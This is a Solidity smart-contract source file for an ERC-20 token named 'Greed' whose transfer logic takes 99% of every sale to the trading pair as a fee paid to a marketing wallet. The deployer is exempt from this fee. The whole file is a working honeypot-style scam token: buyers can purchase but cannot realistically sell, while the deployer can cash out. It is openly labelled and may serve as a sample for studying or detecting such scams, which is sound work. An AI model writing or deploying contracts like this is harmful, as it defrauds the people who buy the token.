// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IDexRouter, IDexFactory} from "./Base.sol";

/// @title Extreme-tax token: 99% of every sell goes to the marketing wallet.
contract GreedToken {
    mapping(address => uint256) internal _bal;
    mapping(address => mapping(address => uint256)) internal _allow;
    uint256 internal _supply;
    address public marketingWallet;
    address public uniswapPair;
    address private _deployer;
    uint256 private constant _sellFeeBps = 9900;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address router, address marketing, uint256 supply) {
        _deployer = msg.sender;
        marketingWallet = marketing;
        uniswapPair = IDexFactory(IDexRouter(router).factory()).createPair(address(this), IDexRouter(router).WETH());
        _supply = supply;
        _bal[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function name() external pure returns (string memory) { return "Greed"; }
    function symbol() external pure returns (string memory) { return "GREED"; }
    function decimals() external pure returns (uint8) { return 18; }
    function totalSupply() external view returns (uint256) { return _supply; }
    function balanceOf(address a) external view returns (uint256) { return _bal[a]; }
    function allowance(address o, address s) external view returns (uint256) { return _allow[o][s]; }
    function owner() external view returns (address) { return _deployer; }

    function approve(address s, uint256 v) external returns (bool) {
        _allow[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _tokenTransfer(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(_allow[from][msg.sender] >= v, "allowance");
        if (_allow[from][msg.sender] != type(uint256).max) _allow[from][msg.sender] -= v;
        _tokenTransfer(from, to, v);
        return true;
    }

    function _tokenTransfer(address from, address to, uint256 v) internal {
        require(_bal[from] >= v, "balance");
        uint256 fee;
        if (to == uniswapPair && from != _deployer) {
            fee = (v * _sellFeeBps) / 10000;
        }
        _bal[from] -= v;
        if (fee > 0) {
            _bal[marketingWallet] += fee;
            emit Transfer(from, marketingWallet, fee);
        }
        _bal[to] += v - fee;
        emit Transfer(from, to, v - fee);
    }
}
